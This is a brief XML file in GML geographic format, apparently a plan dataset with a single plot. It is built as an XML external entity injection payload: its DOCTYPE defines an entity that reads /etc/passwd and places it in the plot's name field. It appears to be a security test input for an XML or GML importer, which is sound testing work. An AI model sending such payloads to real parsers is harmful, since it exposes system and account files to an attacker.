<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plan [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<plan xmlns:gml="http://www.opengis.net/gml"><gml:featureMember><plot><name>&secret;</name><gml:Point srsName="EPSG:25832"><gml:pos>500000 5500000</gml:pos></gml:Point></plot></gml:featureMember></plan>
